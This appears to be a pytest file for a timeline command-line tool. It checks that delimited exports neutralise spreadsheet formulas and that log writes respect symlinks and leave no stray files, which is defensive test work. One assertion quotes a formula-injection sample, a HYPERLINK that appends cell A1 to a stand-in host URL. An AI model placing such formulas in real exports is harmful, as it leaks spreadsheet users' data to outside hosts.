"""Safety that holds for every output and every write, not format by format.

- Every delimited output (CSV, TSV, stats as CSV) neutralises formulas through one function.
- A log is written only when the user names it: never the bundled log, found through the package
  or an editable checkout.
- A write to a symlinked log goes to its target and keeps the link.
- Nothing is left beside a user's log: no lock file, and nothing at all when a command fails.
"""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.conftest import HOSTILE, SMALL, Run

from timeline.render.delimited import FORMULA_TRIGGERS
from timeline.store import bundled_log_path

RunCli = Callable[..., Run]
ADD = ["--title", "Talks", "--date", "2020-01-02", "--type", "meeting", "--actor", "USA",
       "--summary", "Talks were held."]  # fmt: skip
LIVE = FORMULA_TRIGGERS - {"'"}


def _no_live_formula(cells: list[str]) -> None:
    live = [cell for cell in cells if cell and cell[0] in LIVE]
    assert not live, f"live formulas: {live[:3]}"


@pytest.mark.parametrize(
    "args",
    [["export", "--format", "tsv"], ["list", "--format", "tsv"], ["list"]],
    ids=" ".join,
)
def test_tsv_holds_no_live_formula(run: RunCli, args: list[str]) -> None:
    text = run(*args, "--data", str(HOSTILE)).stdout
    cells = [cell for line in text.splitlines() for cell in line.split("\t")]
    _no_live_formula(cells)
    assert '\'=HYPERLINK("http://x.invalid/?"&A1,"source")' in cells or any(
        cell.startswith("'=") for cell in cells
    )
    raw = run(*args, "--raw", "--data", str(HOSTILE)).stdout
    assert any(cell[:1] in LIVE for line in raw.splitlines() for cell in line.split("\t"))


def test_stats_as_csv_holds_no_live_formula(run: RunCli) -> None:
    for by in ("tag", "actor", "type"):
        text = run("stats", "--by", by, "--format", "csv", "--data", str(HOSTILE)).stdout
        _no_live_formula([cell for row in csv.reader(io.StringIO(text)) for cell in row])


def test_the_bundled_log_is_never_written_unless_named(run: RunCli) -> None:
    bundled = bundled_log_path()
    before = bundled.read_bytes()
    for args in (["add", *ADD], ["fmt"]):
        result = run(*args, env={"TIMELINE_DATA": ""}, expect=1)
        assert "is the bundled log, which commands only read" in result.stderr
        assert "--data PATH" in result.stderr
    assert bundled.read_bytes() == before


def _listing(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def test_add_and_fmt_leave_nothing_beside_the_log(run: RunCli, tmp_path: Path) -> None:
    folder = tmp_path / "desk"
    folder.mkdir()
    log = folder / "log.json"
    shutil.copyfile(SMALL, log)
    run("fmt", str(log))
    run("add", *ADD, "--data", str(log))
    run("fmt", "--check", str(log))
    assert _listing(folder) == ["log.json"]


def test_a_failing_command_creates_nothing(run: RunCli, tmp_path: Path) -> None:
    run("fmt", str(tmp_path / "ghost.json"), expect=1)
    run("add", *ADD, "--data", str(tmp_path / "ghost.json"), expect=1)
    bad = tmp_path / "bad.json"
    bad.write_text("{", encoding="utf-8")
    run("fmt", str(bad), expect=1)
    run("add", *ADD, "--data", str(bad), expect=1)
    assert _listing(tmp_path) == ["bad.json"]


def test_a_symlinked_log_is_written_through_its_link(run: RunCli, tmp_path: Path) -> None:
    real = tmp_path / "real" / "log.json"
    real.parent.mkdir()
    shutil.copyfile(SMALL, real)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    run("fmt", str(link))
    run("add", *ADD, "--data", str(link))
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert "Talks were held." in real.read_text(encoding="utf-8")
    run("fmt", "--check", str(real))
    assert _listing(real.parent) == ["log.json"]
    assert _listing(tmp_path) == ["link.json", "real"]


def test_a_write_through_a_link_to_a_link_reaches_the_file(run: RunCli, tmp_path: Path) -> None:
    real = tmp_path / "log.json"
    shutil.copyfile(SMALL, real)
    (tmp_path / "one.json").symlink_to(real)
    (tmp_path / "two.json").symlink_to(tmp_path / "one.json")
    run("add", *ADD, "--data", str(tmp_path / "two.json"))
    assert (tmp_path / "two.json").is_symlink() and (tmp_path / "one.json").is_symlink()
    assert "Talks were held." in real.read_text(encoding="utf-8")
